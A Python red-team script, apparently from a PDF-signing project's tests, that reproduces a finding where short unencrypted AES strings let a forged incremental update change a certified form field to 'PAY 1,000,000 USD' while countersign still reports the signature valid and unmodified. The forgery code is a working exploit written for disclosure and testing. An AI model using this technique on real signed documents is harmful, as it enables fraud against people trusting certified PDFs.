# Red-team finding (2026-12-07, issue 22): an AES string shorter than 32 bytes (or not a whole
# number of blocks) decrypts to "" (or to its whole blocks) in countersign, but MuPDF leaves
# such a string undecrypted and shows its raw bytes. So a later revision can rewrite an object
# with a short PLAIN string that countersign's diff finds identical to the signed (encrypted,
# empty) one, while a viewer shows the attacker's text.
# Cause: src/pdf/security/crypt_filter.rs aes_cbc_decrypt (drops a partial trailing block,
# `unwrap_or_default()` in decrypt() for < 16 bytes, empty body -> ""), so
# SecurityHandler::decrypt_object maps many raw strings to one plain value; the diff
# (src/verify/diff/revision.rs compare) only sees decrypted objects.
# Flow: a text field with /V () and /NeedAppearances true, AES-128 with an empty user password
# (qpdf); certified P1 (no changes) by countersign; Mallory redefines the widget with
# /V (PAY 1,000,000 USD) as a literal, unencrypted string (21 bytes).
# Usage: python3 redteam_enc_short_aes_string.py COUNTERSIGN CLASSIC_PDF PKI_DIR OUTDIR
# Then: COUNTERSIGN verify OUTDIR/forged.pdf --trust PKI_DIR/root-ca.cert.pem --json
#         -> exit 0, VALID, modifications.level "none", objects []
#       mutool draw -F txt OUTDIR/forged.pdf 1  -> "PAY 1,000,000 USD" (signed.pdf: empty field)
import re, subprocess, sys

exe, classic, pki, out = sys.argv[1:5]


def append_update(data, objs):
    """A classic incremental update redefining `objs` ({num: body})."""
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = max(max(int(x) for x in re.findall(rb"/Size\s+(\d+)", data)), max(objs) + 1)
    root = re.findall(rb"/Root\s+(\d+ \d+ R)", data)[-1]
    enc = re.findall(rb"/Encrypt\s+(\d+ \d+ R)", data)
    enc = b"/Encrypt " + enc[-1] if enc else b""
    ids = re.findall(rb"/ID\s*\[[^\]]*\]", data)[-1]
    buf = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(buf)
        buf += b"%d 0 obj\n%s\nendobj\n" % (num, objs[num])
    xref = len(buf)
    buf += b"xref\n"
    for num in sorted(objs):
        buf += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    buf += b"trailer\n<< /Size %d /Root %s %s %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, enc, ids, prev, xref)
    return bytes(buf)


# 1. classic.pdf plus a text field whose value is empty, appearances made by the viewer.
plain = append_update(open(classic, "rb").read(), {
    1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [9 0 R] /NeedAppearances true "
       b"/DA (/Helv 12 Tf 0 g) /DR << /Font << /Helv 10 0 R >> >> >> >>",
    3: b"<< /Type /Page /Contents 4 0 R /MediaBox [ 0 0 612 792 ] /Parent 2 0 R "
       b"/Resources << /Font << /F1 5 0 R >> >> /Annots [9 0 R] >>",
    9: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V () /DA (/Helv 14 Tf 0 g) "
       b"/Rect [72 600 400 630] /F 4 /P 3 0 R >>",
    10: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
})
open(f"{out}/plain.pdf", "wb").write(plain)
# 2. AES-128, empty user password (anyone can open it, as for countersign's ESS service).
subprocess.run(["qpdf", "--static-id", "--encrypt", "", "owner", "128", "--use-aes=y", "--",
                f"{out}/plain.pdf", f"{out}/encrypted.pdf"], check=True)
# 3. The signer certifies it: no changes permitted.
subprocess.run([exe, "sign", f"{out}/encrypted.pdf", "-o", f"{out}/signed.pdf",
                "--p12", f"{pki}/demo.p12", "--password", "demo", "--certify", "p1"], check=True)
# 4. Mallory: the widget again, its /V a short plain literal (not encrypted).
signed = open(f"{out}/signed.pdf", "rb").read()
m = re.search(rb"\n(\d+) 0 obj\n(<<[^\n]*?/Widget[^\n]*?)\nendobj", signed)
num, body = int(m.group(1)), m.group(2)
forged_body = re.sub(rb"/V <[0-9a-f]*>", b"/V (PAY 1,000,000 USD)", body, count=1)
assert forged_body != body
open(f"{out}/forged.pdf", "wb").write(append_update(signed, {num: forged_body}))
verdict = subprocess.run([exe, "verify", f"{out}/forged.pdf", "--trust",
                          f"{pki}/root-ca.cert.pem", "--json"], capture_output=True)
shown = subprocess.run(["mutool", "draw", "-F", "txt", f"{out}/forged.pdf", "1"],
                       capture_output=True).stdout.decode("latin-1")
print("countersign verify exit", verdict.returncode, b'"VALID"' in verdict.stdout)
print("mutool shows:", " | ".join(line for line in shown.splitlines() if line.strip()))
